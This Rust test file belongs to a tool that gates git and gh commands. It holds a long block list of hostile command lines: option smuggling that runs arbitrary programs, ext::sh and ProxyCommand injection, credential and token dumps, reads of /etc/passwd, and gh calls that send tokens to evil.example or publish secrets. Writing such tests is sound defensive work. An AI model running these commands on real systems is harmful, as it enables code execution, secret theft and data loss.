//! Every attack that is known, and that none of them runs unseen.
//!
//! The table of SECURITY.md is written from here: `UPDATE_DOCS=1 cargo test --lib attacks`. Without that variable the two
//! are compared.

use super::*;
use crate::invocation::options::known_for_tests;
use crate::invocation::{Installed, InstalledTool, Tool, verify};

/// What runs a program, leaves the repository or leaks a secret: it must not be able to run at all.
const NEVER: &[(&str, &str)] = &[
    // options that begin like another, or hide behind a value, or in a bundle
    ("git fetch --upload-pack=x origin", "runs x"),
    ("git fetch --upl=x", "runs x: git takes the beginning of an option for the whole"),
    ("git fetch --u=x", "the same with one letter"),
    ("git ls-remote --upload-pack=x .", "runs x"),
    ("git ls-remote --exec=x .", "runs x"),
    ("git ls-remote -o -- --upload-pack=x .", "runs x: `--` is the value of `-o`"),
    ("git fetch -o -- --upload-pack=x origin", "the same"),
    ("git push -o -- --receive-pack=x origin", "the same"),
    ("git clone -b -- --upload-pack=x . d", "the same"),
    ("git grep -e -- -Ox", "runs x: `--` is the value of `-e`"),
    ("git rebase -X -- -xx main", "runs x: `--` is the value of `-X`"),
    ("git ls-remote -o --message --upload-pack=x .", "runs x: an option is the value of another"),
    ("git clone --branch --message --upload-pack=x . d", "the same"),
    ("git rebase -X --date --exec=x HEAD~1", "the same"),
    ("git rebase --committer --exec=x HEAD~1", "the same"),
    ("git merge -X --message --strategy=zz topic", "the same"),
    ("git blame --since --date --contents=/etc/passwd f1", "the same, and reads a file"),
    ("git clone -qux r", "runs x: letters in one word"),
    ("git clone -qccore.hooksPath=d r", "runs hooks from d"),
    ("git clone -c core.hooksPath=x r", "runs hooks from x"),
    ("git clone --config core.sshCommand=x r", "runs x"),
    ("git clone --conf core.sshCommand=x r", "the same, shortened"),
    ("git grep -iOx 1", "runs x"),
    ("git grep -nO./evil touch", "runs a file of the repository"),
    ("git grep --op=x 1", "runs x"),
    ("git grep --color -O./evil touch", "the same"),
    ("git grep --color --open-files-in-pager=./evil", "the same"),
    ("git rebase -qxx", "runs x"),
    ("git rebase -x x main", "runs x after every commit"),
    ("git rebase --exec x main", "the same"),
    ("git rebase --exe x main", "the same, shortened"),
    ("git push --receive-pack=x", "runs x"),
    ("git push --exec=x", "runs x"),
    ("git push --e=x", "runs x, shortened"),
    ("git archive --remote=o --exec=x HEAD", "runs x"),
    ("git difftool -x x", "runs x on every file"),
    ("git difftool --extcmd=x", "the same"),
    ("git diff --ext-diff", "runs what the configuration names"),
    ("git log -p --textconv", "runs what the configuration names"),
    ("git cat-file --textconv HEAD:f", "the same"),
    // commands that exist to run programs
    ("git bisect run x", "runs x at every step"),
    ("git bisect visualize", "starts a viewer"),
    ("git submodule foreach x", "runs x in every submodule"),
    ("git submodule --quiet foreach x", "the same behind an option"),
    ("git filter-branch --tree-filter x", "runs x for every commit"),
    ("git filter-branch --setup x", "runs x"),
    ("git for-each-repo --config=x y", "runs git elsewhere"),
    ("git hook run x", "runs a hook"),
    ("git merge-index x -a", "runs x"),
    ("git mergetool -t x", "runs a tool"),
    ("git interpret-trailers f", "reads any file, and runs configured programs"),
    ("git send-email --sendmail-cmd=x y", "runs x"),
    ("git send-email --to-cmd=x y", "runs x"),
    ("git web--browse https://h/x", "starts a browser"),
    ("git instaweb", "serves the repository"),
    ("git daemon --export-all", "serves every repository"),
    ("git remote-ext a b", "runs b"),
    ("git remote-fd 0", "reads from an open file"),
    ("git upload-pack .", "serves the repository"),
    ("git fetch-pack --upload-pack=x . main", "runs x"),
    ("git scalar delete x", "deletes a directory"),
    ("git submodule--helper clone x", "is a part of git's own workings"),
    // strategies, transports, templates
    ("git merge -s zz main", "runs git-merge-zz"),
    ("git merge -qs zz topic", "the same"),
    ("git pull --strategy=zz", "the same"),
    ("git rebase --strat=zz main", "the same, shortened"),
    ("git rebase -s ort -s zz topic", "the same, behind one that is built in"),
    ("git cherry-pick --strategy ort --strategy zz topic", "the same"),
    ("git fetch ext::x", "runs x"),
    ("git clone 'ext::sh -c x' y", "runs a shell"),
    ("git remote add x ext::sh", "runs it at the next fetch"),
    ("git remote set-url origin zz::x", "runs git-remote-zz at the next fetch"),
    ("git submodule add ext::sh y", "runs it"),
    ("git submodule set-url y ext::sh", "runs it at the next update"),
    ("git push --repo=zz::sh", "runs git-remote-zz"),
    ("git ls-remote zz::x", "runs git-remote-zz"),
    ("git ls-remote fd::0", "reads from an open file"),
    ("git archive --remote=zz::sh HEAD", "runs git-remote-zz"),
    ("git clone ssh://-oProxyCommand=x/r", "gives ssh an option"),
    ("git fetch git@-oProxyCommand=x:r", "the same"),
    ("git init --template=d", "installs hooks from d"),
    ("git clone --template d r", "installs hooks from d and runs them"),
    ("git clone --templ=d r", "the same, shortened"),
    ("git archive --format=evil HEAD", "runs what the configuration names"),
    // settings
    ("git config alias.x '!sh'", "makes a command of git run a shell"),
    ("git config ALIAS.x '!sh'", "the same: sections have no case"),
    ("git config --replace-all alias.zz '!x'", "the same"),
    ("git config alias.zz --get", "the same: behind the key it is a value"),
    ("git config core.sshCommand x", "runs x at the next fetch"),
    ("git config core.hooksPath --type=hooks", "runs hooks from there"),
    ("git config core.hooksPath ''", "switches hooks off"),
    ("git config core.fsmonitor x", "runs x at every status"),
    ("git config --global core.pager x", "runs x"),
    ("git config --worktree core.pager evil", "runs it"),
    ("git config --null core.pager sh", "runs it"),
    ("git config set core.editor x", "runs x"),
    ("git config --rename-section branch.main alias", "makes aliases of settings"),
    ("git config -f ../x alias.y z", "writes another file"),
    ("git config --file=/etc/gitconfig -l", "reads another file"),
    ("git config --edit", "opens settings in an editor"),
    ("git config include.path ../x", "brings in foreign settings"),
    ("git config url.https://h/.insteadOf https://g/", "redirects every fetch and push"),
    ("git config filter.x.clean y", "runs y at every add"),
    ("git config protocol.ext.allow always", "lets addresses run programs"),
    ("git config safe.directory '*'", "trusts everyone's repositories"),
    ("git config help.autocorrect 1", "runs what git guesses"),
    ("git config http.sslVerify ''", "trusts any server"),
    ("git config branch.main.mergeOptions '-s zz'", "runs git-merge-zz"),
    ("git config pull.twohead zz", "runs git-merge-zz"),
    ("git config core.bare --bool", "writes a setting that looks like a question"),
    // options before the command, other programs
    ("git -c alias.z=!x z", "runs x"),
    ("git -c ALIAS.z=!x z", "runs x"),
    ("git -c core.fsmonitor=x status", "runs x"),
    ("git -calias.z=!x z", "runs x"),
    ("git --config-env=alias.z=V z", "runs what V holds"),
    ("git --exec-path=d status", "runs the programs of d"),
    ("git --git-dir=d/r.git status", "works by the settings of d"),
    ("git --work-tree=/etc status", "looks elsewhere"),
    ("git -C /elsewhere status", "works elsewhere"),
    ("git -p log", "starts the pager"),
    ("env X=1 git status", "sets what git reads"),
    ("X=1 git status", "the same"),
    ("/tmp/git status", "runs another git"),
    ("git.exe status", "runs another git"),
    ("sh -c 'git status'", "runs a shell"),
    // what git hands on to other commands
    ("git pull -- origin --upload-pack=x", "gives fetch an option"),
    ("git pull --end-of-options origin --upload-pack=x", "the same"),
    ("git remote update -- --upload-pack=x", "the same"),
    ("git revert -- --output=f1", "gives log an option"),
    ("git shortlog --end-of-options --output=f1 HEAD", "the same"),
    ("git tag -- --upload-pack=x", "makes a name that is read as an option"),
    ("git update-ref refs/heads/--output=x HEAD", "the same"),
    ("git update-ref refs/tags/--upload-pack=x HEAD", "the same"),
    ("git push origin HEAD:refs/heads/--output=x", "the same, for others"),
    // files outside, and git's own
    ("git diff --no-index a /etc/passwd", "reads any file"),
    ("git diff /dev/null /etc/passwd", "reads any file: two paths need no option"),
    ("git diff src/../../home/a src/../../home/b", "the same by a way round"),
    ("git grep --no-index x /etc", "reads any file"),
    ("git grep -f/etc/passwd", "reads any file, by the errors"),
    ("git log --output=/tmp/f", "overwrites any file"),
    ("git show --output ../f HEAD", "the same"),
    ("git blame --output=/tmp/f x", "empties any file"),
    ("git log -O/etc/passwd", "reads any file"),
    ("git blame --contents=/etc/passwd f", "reads any file"),
    ("git blame --ignore-revs-file=/etc/passwd f", "reads any file, by the errors"),
    ("git add --pathspec-from-file=/etc/passwd", "the same"),
    ("git commit -F /etc/passwd", "commits any file"),
    ("git commit -qF/etc/passwd", "the same in a bundle"),
    ("git commit -t ../x", "the same"),
    ("git tag -F /etc/passwd v1", "the same"),
    ("git notes add -F /etc/passwd", "the same"),
    ("git merge -F /etc/passwd x", "the same"),
    ("git archive --add-file=/etc/passwd HEAD", "packs any file"),
    ("git archive -o /tmp/x.zip HEAD", "overwrites any file"),
    ("git bundle create /tmp/x --all", "overwrites any file"),
    ("git format-patch -o /tmp -1", "writes files anywhere"),
    ("git format-patch -koDIR/../../x -1", "the same in a bundle"),
    ("git format-patch --signature-file=/etc/passwd -1", "reads any file"),
    ("git hash-object -w /etc/passwd", "stores any file"),
    ("git merge-file -p /etc/passwd a b", "reads any file"),
    ("git ls-files -X/etc/passwd -i -o", "reads any file"),
    ("git check-mailmap --mailmap-file=/etc/passwd 'A <a@b>'", "reads any file"),
    ("git bisect replay /etc/passwd", "reads any file, by the errors"),
    ("git read-tree --index-output=/tmp/x HEAD", "overwrites any file"),
    ("git repack --expire-to=/tmp/x -d", "writes files anywhere"),
    ("git clone --reference /srv/r.git https://h/x", "reads another repository"),
    ("git clone --bundle-uri=https://h/b https://h/x", "talks to another address"),
    ("git clone --separate-git-dir=/tmp/g r", "writes elsewhere"),
    ("git init --separate-git-dir=../g", "moves the repository elsewhere"),
    ("git apply --unsafe-paths x", "writes elsewhere"),
    ("git checkout-index --prefix=/tmp/ -a -- -x", "writes elsewhere"),
    ("git mv evil .git/hooks/post-checkout", "installs a hook"),
    ("git mv evil .GIT/hooks/post-checkout", "the same where names have no case"),
    ("git mv evil GIT~1/hooks/post-checkout", "the same by a short name of Windows"),
    ("git format-patch -1 -o.git/hooks", "installs hooks"),
    ("git log -1 --pretty --output=.git/config x", "overwrites the settings"),
    ("git worktree add .git/hooks2 topic", "writes into git's own directory"),
    ("git fast-import --export-marks=/tmp/x", "overwrites any file"),
    ("git maintenance register --config-file /tmp/x", "writes any file"),
    // secrets
    ("git credential fill", "shows passwords"),
    ("git credential-store --file /tmp/x get", "shows passwords"),
    ("git var -l", "shows every setting, tokens among them"),
    ("git bugreport -o /tmp", "collects what is known of the machine"),
    ("git diagnose", "the same"),
    ("gh auth token", "shows a token"),
    ("gh auth status -t", "shows a token"),
    ("gh auth status --show-token", "shows a token"),
    ("gh auth git-credential get", "shows a token"),
    // gh
    ("gh alias set x '!sh'", "makes gh run a shell"),
    ("gh alias import f", "the same"),
    ("gh config set pager x", "runs x"),
    ("gh config set http_unix_socket s", "sends the token elsewhere"),
    ("gh extension install .", "installs a program"),
    ("gh extension exec x", "runs it"),
    ("gh repo clone a/b -- -c core.sshCommand=x", "runs x"),
    ("gh repo fork a/b -- -c core.sshCommand=x", "runs x"),
    ("gh gist clone 1 -- --upload-pack=x", "runs x"),
    ("gh codespace ssh -- x", "runs x elsewhere"),
    ("gh codespace cp a remote:b", "copies files elsewhere"),
    ("gh api https://evil.example/x", "sends the token there"),
    ("gh api repos/o/r --hostname evil.example", "sends the token there"),
    ("gh api -H 'Authorization: x' user", "replaces the token"),
    ("gh api -H 'X-HTTP-Method-Override: DELETE' repos/o/r", "replaces the method"),
    ("gh api repos/o/r/issues --input /etc/passwd", "publishes any file"),
    ("gh api gists -F 'files[a]=@/etc/passwd'", "publishes any file"),
    ("gh api gists '-iFfiles[a]=@/etc/passwd'", "the same in a bundle"),
    ("gh pr list -R evil.example/o/r", "sends a token there"),
    ("gh pr view 3 -cR evil.example/o/r", "the same in a bundle"),
    ("gh pr view https://evil.example/o/r/pull/3", "the same by an address"),
    ("gh repo view evil.example/o/r", "the same"),
    ("gh repo clone https://evil.example/o/r", "the same"),
    ("gh repo clone evil.invalid:o/r", "the same as ssh writes it"),
    ("gh pr view https://github.com@evil.example/o/r/pull/3", "the same behind another name"),
    ("gh auth login --hostname evil.example", "the same"),
    ("gh gist create /etc/passwd --public", "publishes any file"),
    ("gh gist create ../f", "publishes any file"),
    ("gh gist create .env", "publishes secrets"),
    ("gh issue create -tx -F /etc/passwd", "publishes any file"),
    ("gh pr comment 1 -F ../secrets", "publishes any file"),
    ("gh pr create -t x --recover /tmp/x", "publishes what a file says"),
    ("gh release upload v1 /etc/passwd", "publishes any file"),
    ("gh release download v1 -O /tmp/x", "overwrites any file"),
    ("gh run download 3 -D /tmp", "writes files anywhere"),
    ("gh secret set X --env-file /etc/passwd", "stores any file"),
    ("gh workflow run x -F a=@/etc/passwd", "publishes any file"),
];

/// What cannot be taken back: its name must be typed.
const IRREVERSIBLE: &[(&str, &str)] = &[
    ("git push --force", "replaces what others have"),
    ("git push origin +main", "the same without an option"),
    ("git push -fu origin x", "the same in a bundle"),
    ("git push origin main --force", "the same at the end"),
    ("git push origin :main", "deletes the branch of others"),
    ("git push --delete origin x", "the same"),
    ("git push --del origin x", "the same, shortened"),
    ("git push --mirror", "deletes what is not here"),
    ("git push --mir", "the same, shortened"),
    ("git push --prune origin", "the same"),
    ("git push https://h/x main", "sends the history anywhere"),
    ("git push ../x main", "the same"),
    ("git push --repo=https://h/x", "the same"),
    ("git push --dry-run --no-dry-run", "takes the dry run back"),
    ("git push --no-verify", "skips the hooks"),
    ("git push -o merge_request.merge origin x", "asks the server for more"),
    ("git commit --no-verify -m x", "skips the hooks"),
    ("git commit -anm x", "the same in a bundle"),
    ("git gc --prune=now", "destroys what undo needs"),
    ("git prune", "the same"),
    ("git repack -ad", "the same"),
    ("git reflog expire --expire=now --all", "the same, and the stash"),
    ("git reflog delete HEAD@{1}", "the same for one entry"),
    ("git maintenance start", "changes what the machine runs by the clock"),
    ("git config --global user.name x", "changes every repository"),
    ("git clean -ffd", "deletes repositories inside of this one"),
    ("git reset --hard --recurse-submodules", "discards changes in submodules"),
    ("git submodule update -f", "the same"),
    ("git fetch http://127.0.0.1/secret", "talks to any address"),
    ("git fetch --multiple origin https://h/x", "the same as a second word"),
    ("git pull http://127.0.0.1/secret", "the same"),
    ("git ls-remote http://127.0.0.1/secret", "the same"),
    ("git remote show http://127.0.0.1/secret", "the same"),
    ("git remote show origin http://127.0.0.1/x", "the same as a second word"),
    ("git remote prune -n http://127.0.0.1/x", "the same"),
    ("git remote add --mirror=push up https://h/x", "makes every push delete"),
    ("git log --output=f", "overwrites a file"),
    ("git log --outp=f", "the same, shortened"),
    ("git blame --output=f x", "empties a file"),
    ("git diff --color --output=F", "overwrites a file"),
    ("git stash list -m --output=F", "the same"),
    ("git stash list --pretty --output=F", "the same"),
    ("git reflog --pretty --output=F", "the same"),
    ("git shortlog --committer --output=F", "the same"),
    ("git rev-list --since --author --output=F HEAD", "the same behind values"),
    ("git diff README ../secret", "may read a file outside"),
    ("git apply ../x.patch", "takes changes from outside"),
    ("git worktree add /abs/x topic", "makes a directory anywhere"),
    ("git clone . /abs/y", "the same"),
    ("git clone https://h/x ../.config", "the same, hidden"),
    ("git init /abs/z", "the same"),
    ("git checkout-index --prefix=x/ -a", "writes files elsewhere in the repository"),
    ("git refs migrate --ref-format=reftable", "rewrites the repository"),
    ("gh repo delete", "deletes the repository"),
    ("gh repo delete o/r --yes", "the same without a question"),
    ("gh repo edit --visibility public", "publishes everything"),
    ("gh repo sync --force", "replaces what others have"),
    ("gh pr merge 3", "merges"),
    ("gh pr close 3 --delete-branch=true", "deletes a branch"),
    ("gh issue delete 1", "deletes an issue; gh asks nobody"),
    ("gh issue delete 1 --confirm", "the same by an old spelling"),
    ("gh release delete v1", "deletes a release"),
    ("gh release upload v1 f --clobber=true", "replaces files of a release"),
    ("gh secret set X", "replaces a secret"),
    ("gh gist create f --public", "publishes a file"),
    ("gh api repos/o/r -f a=b", "writes: a field makes it a POST"),
    ("gh api repos/o/r/issues -iftitle=pwn --input f", "the same in a bundle"),
    ("gh api -iXDELETE repos/o/r", "deletes"),
    ("gh api -X dELETE repos/o/r", "deletes"),
    ("gh api graphql -F query=@f", "does what a file says"),
    ("gh api graphql -f 'query=mutation{x}'", "changes something"),
    ("gh api repos/o/r/../../../user/keys -f key=x", "goes elsewhere on the server"),
];

/// What may lose work or others see: it is asked about.
const ASKED: &[(&str, &str)] = &[
    ("git reset HEAD~1 --hard", "discards changes: the option stands at the end"),
    ("git checkout -- :/", "discards every change, even from a subdirectory"),
    ("git checkout .", "discards changes"),
    ("git checkout '*.rs'", "discards changes: git expands the star"),
    ("git restore ':(top)'", "the same"),
    ("git clean -n --no-dry-run -f", "deletes files: the dry run is taken back"),
    ("git clean -fd", "deletes files"),
    ("git branch --color -D other", "deletes a branch"),
    ("git branch --color -f other HEAD~3", "moves a branch"),
    ("git branch --sort --format -D other", "deletes a branch behind a value"),
    ("git tag -afmx v1 HEAD~2", "moves a tag"),
    ("git stash clear", "drops every stash"),
    ("git fetch --prune --prune-tags", "deletes tags"),
    ("git fetch origin +main:main", "overwrites a branch"),
    ("git rebase --abort", "resets every file"),
    ("git remote add -f up http://127.0.0.1/x", "talks to any address"),
    ("git submodule update --init", "talks to the addresses of submodules"),
    ("git push --force-with-lease", "replaces what others have"),
    ("git add -f .env", "adds secrets"),
    ("git update-ref -d HEAD", "deletes a branch without a check"),
    ("git worktree remove --force x", "deletes a work tree"),
    ("git sparse-checkout set x", "removes files"),
    ("gh pr checkout 3 --force=true", "resets a branch"),
    ("gh api repos/o/r/issues -iftitle=pwn", "writes: a field makes it a POST"),
];

/// How an attack fares.
enum Outcome {
    /// It cannot run; why, in the words of the table.
    Never(String),
    Class(Class),
}

/// Sends a line through the gates that every command of a plan passes. Every command is taken for installed.
fn outcome(line: &str) -> Outcome {
    let Ok(invocation) = Invocation::parse(line) else {
        return Outcome::Never("not run: neither git nor gh".to_owned());
    };
    if invocation.args[0].starts_with('-') {
        let problems = verify(&invocation, &installed(&invocation), None);
        assert!(!problems.is_empty(), "{line}");
        return Outcome::Never("not run: an option before the command".to_owned());
    }
    let known = known_for_tests(&invocation);
    let risk = classify(&invocation, Some(&known));
    if risk.refused.is_some() {
        return Outcome::Never("refused".to_owned());
    }
    match verify(&invocation, &installed(&invocation), Some(&known)).first() {
        Some(problem) if problem.message.contains(" has no `-") => Outcome::Never("not run: no such option".to_owned()),
        Some(problem) => Outcome::Never(format!("not run: {}", problem.message)),
        None => Outcome::Class(risk.class),
    }
}

fn installed(invocation: &Invocation) -> Installed {
    let named = |commands: Vec<String>| InstalledTool {
        program: "/bin/x".into(),
        version: "1".into(),
        commands,
        helpful: Vec::new(),
    };
    let words = invocation.subcommand();
    let paths = (1..=words.len()).map(|depth| words[..depth].join(" ")).collect();
    let gh = (invocation.tool == Tool::Gh).then(|| named(paths));
    Installed { git: named(invocation.args.iter().take(1).cloned().collect()), gh }
}

#[test]
fn no_attack_comes_out_lower_than_it_is() {
    let mut wrong = Vec::new();
    for (line, _) in NEVER {
        if let Outcome::Class(class) = outcome(line) {
            wrong.push(format!("`{line}` can run: {class}"));
        }
    }
    let lowest = [(IRREVERSIBLE, Class::Irreversible), (ASKED, Class::Lossy)];
    for (lines, lowest) in lowest {
        for (line, _) in lines {
            match outcome(line) {
                Outcome::Class(class) if class < lowest => wrong.push(format!("`{line}` is {class}")),
                _ => {}
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Where the installed tool tells nothing of its options, no attack may pass for harmless either.
#[test]
fn no_attack_is_harmless_where_options_are_unknown() {
    for (line, _) in NEVER.iter().chain(IRREVERSIBLE).chain(ASKED) {
        let Ok(invocation) = Invocation::parse(line) else { continue };
        let risk = classify(&invocation, None);
        assert!(risk.refused.is_some() || !risk.class.is_harmless(), "{line}: {risk:?}");
    }
}

fn shown(outcome: &Outcome) -> String {
    match outcome {
        Outcome::Never(why) => why.clone(),
        Outcome::Class(Class::Irreversible) => "irreversible: asks for its name".to_owned(),
        Outcome::Class(class) => format!("{class}: asks, and Enter is no"),
    }
}

#[test]
fn the_table_of_attacks_is_in_the_documentation() {
    const START: &str = "<!-- attacks -->\n";
    const END: &str = "<!-- /attacks -->";
    let mut table = "| command | what it would do | what gut does |\n|---|---|---|\n".to_owned();
    for (line, does) in NEVER.iter().chain(IRREVERSIBLE).chain(ASKED) {
        let row = format!("| `{}` | {does} | {} |\n", line.replace('|', "\\|"), shown(&outcome(line)));
        table.push_str(&row);
    }
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("SECURITY.md");
    let text = std::fs::read_to_string(&path).unwrap();
    let (before, rest) = text.split_once(START).unwrap();
    let (_, after) = rest.split_once(END).unwrap();
    let wanted = format!("{before}{START}{table}{END}{after}");
    #[expect(clippy::disallowed_methods, reason = "a test is told to write the documentation")]
    let update = std::env::var("UPDATE_DOCS").is_ok_and(|value| value == "1");
    if update {
        std::fs::write(&path, wanted).unwrap();
    } else {
        assert!(text == wanted, "SECURITY.md differs: run `UPDATE_DOCS=1 cargo test --lib attacks`");
    }
}
